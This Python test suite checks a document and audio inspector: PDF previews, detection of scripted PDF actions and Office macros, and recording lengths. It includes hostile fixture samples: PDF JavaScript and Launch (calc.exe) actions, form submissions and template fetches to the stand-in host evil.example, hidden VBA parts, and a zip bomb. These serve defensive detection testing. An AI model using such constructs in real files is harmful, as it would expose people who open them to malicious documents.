"""First pages, what Office files hold, and how long a recording is."""

from __future__ import annotations

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from files.inspection import documents, sounds
from files.inspection.kinds import BY_EXTENSION
from files.inspection.rules import Policy, confirm
from files.inspection.values import Document, Office, PageLimits, Sound, Unreadable
from tests.files import samples
from tests.files.inspection.test_rules import HOSTILE, LATER, judge

EXTERNAL = (
    "<?xml version='1.0'?><Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
    "<Relationship Id='r1' Target='http://evil.example/a.dotm' {mode} Type='http://schemas.openxmlformats.org/"
    "officeDocument/2006/relationships/{kind}'/></Relationships>"
)


def page(data: bytes, limits: PageLimits = documents.LIMITS) -> Document | Unreadable:
    return documents.first_page(io.BytesIO(data), limits)


def office(data: bytes) -> Office | Unreadable:
    return documents.office(io.BytesIO(data))


def test_the_first_page() -> None:
    seen = page(samples.pdf(3))
    assert isinstance(seen, Document)
    assert (seen.pages, seen.encrypted) == (3, False)
    assert seen.preview is not None
    assert (seen.preview.width, seen.preview.height) == (1131, 1600)
    image = Image.open(io.BytesIO(seen.preview.data)).convert("L")
    dark = image.point(lambda value: 255 if value < 128 else 0).getbbox()
    assert dark is not None  # the word is there, where it was put
    assert 100 < dark[0] < 300
    assert dark[1] < 400


def test_pdfs_that_cannot_be_shown_are_named() -> None:
    assert page(samples.pdf_encrypted()) == Document(0, True, None)
    assert page(samples.pdf()[:200]) == Unreadable("broken")
    assert page(b"") == Unreadable("broken")
    assert page(samples.png()) == Unreadable("broken")
    assert page(samples.pdf(3), PageLimits(pages=2)) == Unreadable("limit")


@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"<</S/J#61va#53cript/JS(1)>>",
        b"<< /S /Launch /F (calc.exe) >>",
        b"<< /S /SubmitForm /F (http://evil.example) >>",
        b"<< /S /GoToE /T << /R /C /N (x) >> >>",
    ],
)
def test_pdfs_that_act(action: bytes, packed: bool) -> None:
    data = samples.pdf_with(action, catalog=b"/OpenAction 10 0 R", packed=packed)
    seen = page(data)
    assert isinstance(seen, Document)
    assert seen.active
    verdict = judge("合同.pdf", data)
    assert verdict.accepted
    assert confirm(verdict, seen).refusal == "scripted"
    allowed = confirm(verdict, seen, Policy(macros=True))
    assert allowed.accepted
    assert allowed.macros


def test_scripts_in_the_documents_own_list() -> None:
    names = b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"
    seen = page(samples.pdf_with(catalog=names))
    assert isinstance(seen, Document)
    assert seen.active


@pytest.mark.parametrize(("name", "active"), [(b"invoice.XML", False), (b"a.exe", True), (b"noname", True)])
def test_files_in_a_pdf_are_data_or_refuse_it(name: bytes, active: bool) -> None:
    seen = page(samples.pdf_with_file(name))
    assert isinstance(seen, Document)
    assert seen.active is active


@pytest.mark.parametrize(
    "catalog",
    [
        b"/OpenAction [4 0 R /Fit]",
        b"/JavaScripts 1",
        b"/PageLaunch 1",
        b"/Launchpad true",
        b"/Note (JavaScript)",
    ],
)
def test_what_pdfs_of_everyday_have_is_fine(catalog: bytes) -> None:
    seen = page(samples.pdf_with(catalog=catalog))
    assert isinstance(seen, Document)
    assert not seen.active


@pytest.mark.parametrize(("width", "height"), [(14_400, 14_400), (200_000, 100), (3, 4)])
def test_memory_does_not_follow_the_page(width: float, height: float) -> None:
    seen = page(samples.pdf(width=width, height=height))
    assert isinstance(seen, Document)
    assert seen.preview is not None
    assert max(seen.preview.width, seen.preview.height) <= 1600


@pytest.mark.parametrize("size", ["1e30", "-1", "0", "9999999"])
def test_pages_of_no_size(size: str) -> None:
    answer = page(samples.pdf().replace(b"[0 0 595 842]", f"[0 0 {size} {size}]".encode()))
    assert isinstance(answer, Unreadable | Document)  # the engine takes A4 where a page makes no sense


@pytest.mark.parametrize(
    "name", "合同.docx 报表.xlsx 汇报.pptx 旧合同.doc 旧报表.xls 旧汇报.ppt 文字.wps 表格.et".split()
)
def test_good_office_files(name: str) -> None:
    data = samples.good()[name]
    seen = office(data)
    assert seen == Office(BY_EXTENSION[name.rpartition(".")[2]].name, False, False, False)
    assert confirm(judge(name, data), seen).accepted


@pytest.mark.requirement("F02")
@pytest.mark.parametrize("name", sorted(LATER))
def test_what_only_the_inside_shows(name: str) -> None:
    reason, data = HOSTILE[name]
    verdict = judge(name, data)
    assert verdict.accepted
    seen = office(data)
    assert isinstance(seen, Office)
    assert confirm(verdict, seen).refusal == reason


_VBA = b"<Types><Override ContentType='application/vnd.ms-office.vbaProject' PartName='/word/a.bin'/></Types>"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_macros_under_another_name(encoding: str) -> None:
    types = f"<?xml version='1.0' encoding='{encoding}'?>{_VBA.decode()}".encode(encoding)
    assert office(samples.ooxml("docx", {"word/a.bin": b""}, types)) == Office("docx", True, False, False)


@pytest.mark.parametrize(
    ("kind", "mode", "external"),
    [
        ("attachedTemplate", "TargetMode='External'", True),
        ("oleObject", "TargetMode='external'", True),
        ("attachedTemplate", "", False),
        ("hyperlink", "TargetMode='External'", False),
        ("externalLinkPath", "TargetMode='External'", False),
    ],
)
def test_what_is_fetched_when_it_is_opened(kind: str, mode: str, external: bool) -> None:
    part = EXTERNAL.format(kind=kind, mode=mode).encode()
    seen = office(samples.ooxml("docx", {"word/_rels/settings.xml.rels": part}))
    assert seen == Office("docx", False, external, False)


def test_macro_sheets_of_excel_4() -> None:
    bound = b"\x85\0\x0c\0" + bytes(4) + b"\x02\x01" + b"\x04\0Mac1"
    head = b"\x09\x08\x04\0\0\x06\x05\0"
    assert office(samples.ole({"Workbook": head + bound + b"\x0a\0\0\0"})) == Office(
        "xls", True, False, False
    )
    harmless = bound.replace(b"\x02\x01", b"\x02\0")
    assert office(samples.ole({"Workbook": head + harmless + b"\x0a\0\0\0"})) == Office(
        "xls", False, False, False
    )


def test_macros_of_powerpoint_97() -> None:
    atom = bytes.fromhex("1f00ff0314000000020000040c000000") + bytes(4)
    for flag, macros in ((1, True), (0, False)):
        data = b"\x0f\0\xe8\x03" + atom + flag.to_bytes(4, "little") + bytes(4)
        assert office(samples.ole({"PowerPoint Document": data})) == Office("ppt", macros, False, False)


def test_passwords_of_old_files() -> None:
    word = b"\xec\xa5\xc1\0" + bytes(6) + b"\0\x01"
    assert office(samples.ole({"WordDocument": word})) == Office("doc", False, False, True)
    excel = b"\x09\x08\x04\0\0\x06\x05\0\x2f\0\x06\0" + bytes(6) + b"\x0a\0\0\0"
    assert office(samples.ole({"Workbook": excel})) == Office("xls", False, False, True)
    assert office(samples.ole({"EncryptedPackage": b""})) == Office("", False, False, True)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (samples.ooxml("docx", {"word/media/a.bmp": bytes(80 << 20)}), "limit"),
        (samples.ooxml("docx", types=b"<!DOCTYPE a [<!ENTITY b 'c'>]><Types>&b;</Types>"), "broken"),
        (samples.ooxml("docx", types=b"<Types>" + b" " * (5 << 20)), "broken"),
        (samples.ooxml("docx", types=b"<Types"), "broken"),
        (samples.zipped({"word/document.xml": b""}), "broken"),
        (samples.ooxml("docx")[:-1], "broken"),
        (samples.ole({"WordDocument": b""})[:700], "broken"),
        (b"", "broken"),
    ],
    ids=["bomb", "entities", "large part", "no xml", "no types", "cut", "cut compound", "empty"],
)
def test_office_files_that_cannot_be_read(data: bytes, why: str) -> None:
    assert office(data) == Unreadable(why)


@given(
    st.sampled_from([samples.ooxml("docx"), samples.ole({"Workbook": b"\x09\x08", "VBA/": b""})]), st.data()
)
@settings(max_examples=200, deadline=None)
def test_no_office_file_is_a_surprise(data: bytes, draw: st.DataObject) -> None:
    damaged = bytearray(data)
    for _ in range(draw.draw(st.integers(1, 5))):
        at = draw.draw(st.integers(0, len(damaged) - 1))
        damaged[at : at + 4] = draw.draw(st.binary(max_size=4))
    assert isinstance(office(bytes(damaged)), Office | Unreadable)


@pytest.mark.parametrize(
    ("data", "ms"),
    [
        (samples.amr(100), 2000),
        (samples.amr_wide(75), 1500),
        (samples.amr(100)[:-1], 1980),
        (samples.wav(1500), 1500),
        (samples.opus(2000), 2000),
        (samples.vorbis(3000), 3000),
        (samples.mp4(b"M4A ", ms=2500), 2500),
        (samples.mp3(100), 2612),
    ],
    ids=["amr", "amr-wb", "amr cut", "wav", "opus", "vorbis", "m4a", "mp3"],
)
def test_lengths(data: bytes, ms: int) -> None:
    assert sounds.length(io.BytesIO(data)) == Sound(ms)


@pytest.mark.parametrize(
    "data", [b"", b"#!AMR\n", b"#!AMR\n\x4c", samples.png(), samples.wav()[:30], samples.mp4(b"M4A ", ms=0)]
)
def test_what_has_no_length(data: bytes) -> None:
    assert sounds.length(io.BytesIO(data)) == Unreadable("broken")


@given(st.sampled_from([samples.opus(100), samples.mp4(b"M4A "), samples.mp3(5), samples.wav(10)]), st.data())
@settings(max_examples=200, deadline=None)
def test_no_recording_is_a_surprise(data: bytes, draw: st.DataObject) -> None:
    damaged = bytearray(data)
    for _ in range(draw.draw(st.integers(1, 5))):
        at = draw.draw(st.integers(0, len(damaged) - 1))
        damaged[at : at + 4] = draw.draw(st.binary(max_size=4))
    assert isinstance(sounds.length(io.BytesIO(bytes(damaged))), Sound | Unreadable)
